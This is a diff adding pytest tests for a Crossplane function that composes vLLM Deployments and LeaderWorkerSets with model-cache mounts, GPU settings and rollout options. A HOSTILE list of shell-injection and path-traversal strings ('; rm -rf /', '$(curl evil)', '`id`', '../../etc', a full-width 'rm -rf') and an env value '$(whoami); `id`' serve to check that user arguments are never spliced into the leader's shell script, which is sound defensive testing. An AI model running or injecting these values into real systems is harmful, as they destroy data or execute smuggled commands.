@@ -1,0 +1,308 @@
+"""ModelReplica workloads: what runs on the cluster for a placement (engine, pods, gang)."""
+
+import pytest
+from compose_model_replica.core import SERVICE, USAGE, WORKLOAD
+from compose_model_replica.engines import LEADER_SCRIPT, WORKER_SCRIPT
+from compose_model_replica.fn import CACHE, CLUSTER
+from crossplane.function.proto.v1 import run_function_pb2 as fnv1
+from modelfleet_devtools.requests import (
+    desired_resources,
+    desired_status,
+    run_function_request,
+)
+from modelfleet_devtools.validation import assert_valid, require_shared_schemas
+from modelfleet_devtools.world import H100
+from replica_world import (
+    CLAIM,
+    RUNNER,
+    available_gang,
+    cache_mount,
+    model_cache,
+    pod_templates,
+    probes,
+    replica,
+    run,
+    workload,
+)
+
+
+def test_done_when_a_2_node_vllm_replica_waits_for_its_cache_then_serves_a_valid_gang():
+    """Issue 6's done-when: nothing while the cache hydrates, then a valid LeaderWorkerSet
+    whose leader and worker pods all mount the cache, then Ready once the gang is Available."""
+    xr = replica(nodes=2)
+
+    # 1. The cache is still downloading on gke-us: no workload, no GPU held; only the Usage
+    #    that keeps the cache from being deleted under the replica.
+    hydrating = run(xr, cache=model_cache("Hydrating", "downloading 312/1024 files"))
+    assert set(desired_resources(hydrating)) == {USAGE}
+    assert desired_status(hydrating)["phase"] == "WaitingForCache"
+    assert "Hydrating" in desired_status(hydrating)["message"]
+    assert "downloading 312/1024 files" in desired_status(hydrating)["message"]
+    assert hydrating.desired.composite.ready == fnv1.READY_FALSE
+
+    # 2. The cache is Ready: a LeaderWorkerSet gang of 2 and a Service to its leaders.
+    composing = run(xr, cache=model_cache("Ready"))
+    composed = desired_resources(composing)
+    lws = workload(composing)
+    require_shared_schemas()
+    assert_valid(lws)
+    assert lws["kind"] == "LeaderWorkerSet"
+    assert lws["spec"]["leaderWorkerTemplate"]["size"] == 2
+    for role, pod in pod_templates(lws).items():
+        assert cache_mount(pod) == (CLAIM, "/mnt/models/abc123def456"), role
+    leader = pod_templates(lws)["leader"]["spec"]["containers"][0]
+    assert "--model=/mnt/models/abc123def456" in leader["args"]
+    assert "--pipeline-parallel-size=2" in leader["args"]
+    service = composed[SERVICE]["spec"]["forProvider"]["manifest"]
+    assert service["spec"]["selector"]["leaderworkerset.sigs.k8s.io/worker-index"] == "0"
+    assert desired_status(composing)["phase"] == "Progressing"
+    assert composing.desired.composite.ready == fnv1.READY_FALSE
+
+    # 3. The workload cluster reports the gang Available: the replica is Ready.
+    ready = run(
+        xr, cache=model_cache("Ready"), observed={WORKLOAD: available_gang(composed[WORKLOAD])}
+    )
+    assert desired_status(ready)["phase"] == "Ready"
+    assert desired_status(ready)["readyReplicas"] == 1
+    assert ready.desired.composite.ready == fnv1.READY_TRUE
+
+
+def test_every_gang_pod_gets_gpus_shared_memory_pool_placement_and_identity_first():
+    lws = workload(
+        run(
+            replica(nodes=2, engine={"framework": "vLLM", "env": [{"name": "A", "value": "1"}]}),
+            cache=model_cache("Ready"),
+        )
+    )
+    assert lws["spec"]["startupPolicy"] == "LeaderReady"
+    assert lws["spec"]["leaderWorkerTemplate"]["restartPolicy"] == "RecreateGroupOnPodRestart"
+    assert lws["spec"]["rolloutStrategy"] == {
+        "type": "RollingUpdate",
+        "rollingUpdateConfiguration": {"partition": 0, "maxUnavailable": 1, "maxSurge": 0},
+    }
+    for role, pod in pod_templates(lws).items():
+        container = pod["spec"]["containers"][0]
+        assert container["resources"]["limits"]["nvidia.com/gpu"] == "8", role
+        assert container["resources"]["requests"]["nvidia.com/gpu"] == "8", role
+        shm = next(m for m in container["volumeMounts"] if m["mountPath"] == "/dev/shm")
+        volume = next(v for v in pod["spec"]["volumes"] if v["name"] == shm["name"])
+        assert volume["emptyDir"]["medium"] == "Memory", role
+        assert pod["spec"]["nodeSelector"] == H100["nodeSelector"], role
+        assert pod["spec"]["tolerations"] == H100["tolerations"], role
+        assert container["env"] == [
+            {"name": "MODELFLEET_LEADER_ADDRESS", "value": "$(LWS_LEADER_ADDRESS)"},
+            {"name": "MODELFLEET_RANK", "value": "$(LWS_WORKER_INDEX)"},
+            {"name": "MODELFLEET_GROUP_SIZE", "value": "$(LWS_GROUP_SIZE)"},
+            {"name": "MODELFLEET_MODEL_PATH", "value": "/mnt/models/abc123def456"},
+            {"name": "A", "value": "1"},
+        ], role
+    leader = pod_templates(lws)["leader"]["spec"]["containers"][0]
+    assert "--tensor-parallel-size=8" in leader["args"]
+    worker = pod_templates(lws)["worker"]["spec"]["containers"][0]
+    assert worker["command"] == [
+        "/bin/sh",
+        "-c",
+        WORKER_SCRIPT,
+        "modelfleet-worker",
+        "$(LWS_LEADER_ADDRESS):6379",
+    ]
+    assert "ray start" in WORKER_SCRIPT and "--block" in WORKER_SCRIPT
+
+
+def test_single_node_vllm_is_a_deployment_with_tensor_parallel_and_the_cache():
+    rsp = run(replica(nodes=1), cache=model_cache("Ready"))
+    deploy = workload(rsp)
+    assert deploy["kind"] == "Deployment" and deploy["spec"]["replicas"] == 1
+    c = deploy["spec"]["template"]["spec"]["containers"][0]
+    assert "--model=/mnt/models/abc123def456" in c["args"]
+    assert cache_mount(deploy["spec"]["template"]) == (CLAIM, "/mnt/models/abc123def456")
+    assert "--tensor-parallel-size=8" in c["args"]
+    assert {e["name"]: e.get("value") for e in c["env"]}["MODELFLEET_GROUP_SIZE"] == "1"
+
+
+def test_user_model_flag_wins_and_no_cache_mounts_nothing():
+    xr = replica(cache=False, engine={"framework": "vLLM", "args": ["--model=Qwen/Qwen3-0.6B"]})
+    rsp = run(xr)
+    c = workload(rsp)["spec"]["template"]["spec"]["containers"][0]
+    assert [a for a in c["args"] if a.startswith("--model")] == ["--model=Qwen/Qwen3-0.6B"]
+    assert all(m["mountPath"] != "/mnt/models" for m in c["volumeMounts"])
+
+
+HOSTILE = [
+    "; rm -rf /",
+    "$(curl evil)",
+    "`id`",
+    "--model=../../etc",
+    "../../x",
+    "\uff52\uff4d \uff0d\uff52\uff46",  # full-width look-alike of "rm -rf"
+]
+
+
+def test_control_characters_in_args_are_rejected_with_a_message_and_nothing_changes():
+    engine = {"framework": "Custom", "command": ["/serve", "a\nb"]}
+    rsp = run(replica(nodes=1, engine=engine), cache=model_cache("Ready"))
+    c = next(c for c in rsp.conditions if c.type == "WorkloadReady")
+    assert c.reason == "InvalidSpec" and "engine.command" in c.message
+    assert desired_resources(rsp) == {}
+
+
+def test_custom_engine_passes_user_commands_verbatim():
+    engine = {
+        "framework": "Custom",
+        "image": "ghcr.io/acme/server:1.0",
+        "command": ["/serve", *HOSTILE],
+        "args": HOSTILE,
+        "worker": {"command": ["/join"], "args": HOSTILE},
+        "env": [{"name": "EVIL", "value": "$(whoami); `id`"}],
+    }
+    rsp = run(replica(nodes=2, engine=engine), cache=model_cache("Ready"))
+    pods = pod_templates(workload(rsp))
+    leader, worker = (pods[r]["spec"]["containers"][0] for r in ("leader", "worker"))
+    assert leader["command"] == ["/serve", *HOSTILE]
+    assert leader["args"] == HOSTILE
+    assert worker["command"] == ["/join"] and worker["args"] == HOSTILE
+    assert {"name": "EVIL", "value": "$(whoami); `id`"} in leader["env"]
+
+
+def test_exclusive_topology_and_rollout_settings_reach_the_lws():
+    xr = replica(
+        nodes=4,
+        placement={"exclusiveTopology": "cloud.google.com/gke-nodepool"},
+        rollout={"maxUnavailable": 2, "maxSurge": 1, "partition": 1},
+        gang={"startupPolicy": "LeaderCreated", "restartPolicy": "None"},
+    )
+    lws = workload(run(xr, cache=model_cache("Ready")))
+    assert lws["metadata"]["annotations"] == {
+        "leaderworkerset.sigs.k8s.io/exclusive-topology": "cloud.google.com/gke-nodepool"
+    }
+    assert lws["spec"]["rolloutStrategy"]["rollingUpdateConfiguration"] == {
+        "partition": 1,
+        "maxUnavailable": 2,
+        "maxSurge": 1,
+    }
+    assert lws["spec"]["startupPolicy"] == "LeaderCreated"
+    assert lws["spec"]["leaderWorkerTemplate"]["restartPolicy"] == "None"
+
+
+def test_every_composed_manifest_is_valid():
+    require_shared_schemas()
+    for nodes in (1, 2, 4):
+        for engine in (
+            {"framework": "vLLM"},
+            {"framework": "Custom", "command": ["/serve"], "worker": {"command": ["/join"]}},
+        ):
+            xr = replica(
+                nodes=nodes,
+                engine=engine,
+                placement={"exclusiveTopology": "topology.kubernetes.io/zone"},
+            )
+            for obj in desired_resources(run(xr, cache=model_cache("Ready"))).values():
+                assert_valid(
+                    obj
+                    | {"metadata": {"name": "x", "namespace": "ml-team", **obj.get("metadata", {})}}
+                )
+
+
+def test_single_node_identity_is_the_pod_itself_rank_0_of_a_group_of_1():
+    xr = replica(nodes=1, engine={"framework": "vLLM", "env": [{"name": "A", "value": "1"}]})
+    rsp = run(xr, cache=model_cache("Ready"))
+    env = workload(rsp)["spec"]["template"]["spec"]["containers"][0]["env"]
+    assert env == [
+        {
+            "name": "MODELFLEET_LEADER_ADDRESS",
+            "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}},
+        },
+        {"name": "MODELFLEET_RANK", "value": "0"},
+        {"name": "MODELFLEET_GROUP_SIZE", "value": "1"},
+        {"name": "MODELFLEET_MODEL_PATH", "value": "/mnt/models/abc123def456"},
+        {"name": "A", "value": "1"},
+    ]
+
+
+def test_vllm_gang_leader_shell_is_a_fixed_script_and_user_args_stay_arguments():
+    engine = {"framework": "vLLM", "args": HOSTILE}
+    lws = workload(run(replica(nodes=2, engine=engine), cache=model_cache("Ready")))
+    leader = pod_templates(lws)["leader"]["spec"]["containers"][0]
+    assert leader["command"] == ["/bin/sh", "-c", LEADER_SCRIPT, "modelfleet-leader"]
+    assert all(h not in LEADER_SCRIPT for h in HOSTILE)
+    assert leader["args"][-len(HOSTILE) :] == HOSTILE  # each one its own argv element
+    # The user's --model wins over the cache path (one --model only).
+    assert [a for a in leader["args"] if a.startswith("--model")] == ["--model=../../etc"]
+
+
+def test_custom_single_node_runs_exactly_the_users_command():
+    engine = {"framework": "Custom", "command": ["/serve", "--listen=:9000"], "args": ["-v"]}
+    c = workload(run(replica(nodes=1, engine=engine), cache=model_cache("Ready")))["spec"][
+        "template"
+    ]["spec"]["containers"][0]
+    assert (c["command"], c["args"]) == (["/serve", "--listen=:9000"], ["-v"])
+
+
+@pytest.mark.parametrize(("nodes", "kind"), [(1, "Deployment"), (2, "LeaderWorkerSet")])
+def test_workload_objects_land_in_the_clusters_namespace_and_are_ready_when_available(nodes, kind):
+    composed = desired_resources(run(replica(nodes=nodes), cache=model_cache("Ready")))
+    assert set(composed) == {WORKLOAD, SERVICE, USAGE}  # the Usage lives on the control plane
+    for key, obj in ((k, composed[k]) for k in (WORKLOAD, SERVICE)):
+        assert (obj["apiVersion"], obj["kind"]) == ("kubernetes.m.crossplane.io/v1alpha1", "Object")
+        assert obj["spec"]["providerConfigRef"] == {
+            "kind": "ClusterProviderConfig",
+            "name": "gke-us",
+        }
+        manifest = obj["spec"]["forProvider"]["manifest"]
+        assert manifest["metadata"]["namespace"] == "modelfleet", key
+        assert manifest["metadata"]["labels"]["modelfleet.io/modelreplica"] == "kimi-k2-gke-us"
+        assert manifest["metadata"]["labels"]["modelfleet.io/namespace"] == "ml-team"
+    workload_obj = composed[WORKLOAD]
+    assert workload_obj["spec"]["forProvider"]["manifest"]["kind"] == kind
+    readiness = workload_obj["spec"]["readiness"]
+    assert readiness["policy"] == "DeriveFromCelQuery"
+    assert "c.type == 'Available' && c.status == 'True'" in readiness["celQuery"]
+
+
+def test_a_vllm_gang_started_leader_first_cannot_deadlock():
+    # LeaderReady creates workers only once the leader is Ready, and a vLLM leader serves
+    # only once its workers joined: the leader is Ready when its Ray head is up, and the
+    # workers are Ready only while the leader serves, so Available still means serving.
+    gang = {"startupPolicy": "LeaderReady", "restartPolicy": "RecreateGroupOnPodRestart"}
+    lws = workload(run(replica(nodes=2, gang=gang), cache=model_cache("Ready")))
+    assert lws["spec"]["startupPolicy"] == "LeaderReady"
+    leader, worker = probes(lws)["leader"], probes(lws)["worker"]
+    assert leader["tcpSocket"]["port"] == 6379
+    assert worker["exec"]["command"][:2] == ["python3", "-c"]
+    assert worker["exec"]["command"][-1] == "8000"  # the serving port, as an argument
+    assert "LWS_LEADER_ADDRESS" in worker["exec"]["command"][2]
+
+
+@pytest.mark.parametrize(
+    ("engine", "startup"),
+    [
+        ({"framework": "vLLM"}, "LeaderCreated"),
+        ({"framework": "Custom", "command": ["/serve"]}, "LeaderReady"),
+        ({"framework": "Custom", "command": ["/serve"]}, "LeaderCreated"),
+    ],
+    ids=["vLLM started together", "Custom leader first", "Custom started together"],
+)
+def test_other_gangs_are_ready_when_the_leader_serves(engine, startup):
+    xr = replica(nodes=2, engine={**engine, "port": 9000}, gang={"startupPolicy": startup})
+    lws = workload(run(xr, cache=model_cache("Ready")))
+    assert lws["spec"]["startupPolicy"] == startup
+    assert probes(lws) == {
+        "leader": {"tcpSocket": {"port": 9000}, "periodSeconds": 10, "failureThreshold": 3},
+        "worker": None,
+    }
+
+
+def test_a_replica_asks_for_its_cluster_by_name_and_its_cache_in_its_namespace():
+    wanted = RUNNER.run(run_function_request(replica(nodes=2))).requirements.resources
+    cluster, cache = wanted[CLUSTER], wanted[CACHE]
+    assert (cluster.kind, cluster.match_name) == ("InferenceCluster", "gke-us")
+    assert (cache.kind, cache.match_name, cache.namespace) == ("ModelCache", "kimi-k2", "ml-team")
+    assert (
+        CACHE not in RUNNER.run(run_function_request(replica(cache=False))).requirements.resources
+    )
+
+
+def test_a_replica_placed_with_zero_gpus_per_node_claims_no_gpu():
+    rsp = run(replica(nodes=1, gpusPerNode=0), cache=model_cache("Ready"))
+    container = workload(rsp)["spec"]["template"]["spec"]["containers"][0]
+    assert "nvidia.com/gpu" not in container.get("resources", {}).get("limits", {})
